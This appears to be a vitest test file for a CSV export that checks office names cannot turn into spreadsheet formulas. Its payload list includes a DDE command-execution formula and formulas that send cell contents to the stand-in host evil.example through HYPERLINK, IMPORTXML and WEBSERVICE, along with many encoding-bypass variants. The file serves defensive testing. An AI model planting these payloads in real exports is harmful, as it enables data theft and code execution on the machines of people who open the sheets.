import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvOf } from './csv.ts';
import { safeText } from './safe-text.ts';

/** What a person may have put into a name to have it reckoned, called or run where the sheet is opened. */
const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-',
  '@SUM(A1:A9)',
  '%appdata%',
  '|calc',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '｜calc',
  '％1',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u0007=1+1',
  '"=1+1"',
  "'=1+1",
  '`=1+1',
  ';=1+1',
  'Loket;=1+1',
  'Loket; =1+1',
  'Loket;"=1+1"',
  'Loket\t=1+1',
  'Loket\n=1+1',
  'Loket\r=1+1',
  'Loket;\u200b=1+1',
  'Loket;@SUM(A1)',
  '=HYPERLINK("https://evil.example?"&A1,"Klik")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '@=1',
  '=\n=1',
];

const columns = [{ name: 'unit_name', kind: 'text', width: 20, of: (text: string) => text }] as const;

/** How spreadsheets take such a sheet apart: by the contract's rules, and as an Indonesian one does, which splits lines by semicolons. */
const cells = (csv: string): string[] => [
  ...parse(csv, { bom: true }).flat(),
  ...csv.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\ufeff"']*"/, '').replace(/"+$/, '')),
];

describe('an office whose name is a formula', () => {
  test.each(attacks)('%j stays words in every spreadsheet', (attack) => {
    for (const cell of cells(csvOf(columns, [attack])))
      expect(cell).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@|%＝＋－＠｜％]/u);
  });

  test('the check itself sees a formula that slipped through', () => {
    expect(cells('unit_name\nLoket;=1+1').some((cell) => /^=/.test(cell))).toBe(true);
  });
});

test.each([
  'Dinas Kependudukan & Pencatatan Sipil',
  'Kec. Sidorejo - Loket 1',
  'Biaya 50% (contoh)',
  'KTP-el baru',
])('%s is left as it is', (name) => {
  expect(safeText(name)).toBe(name);
});
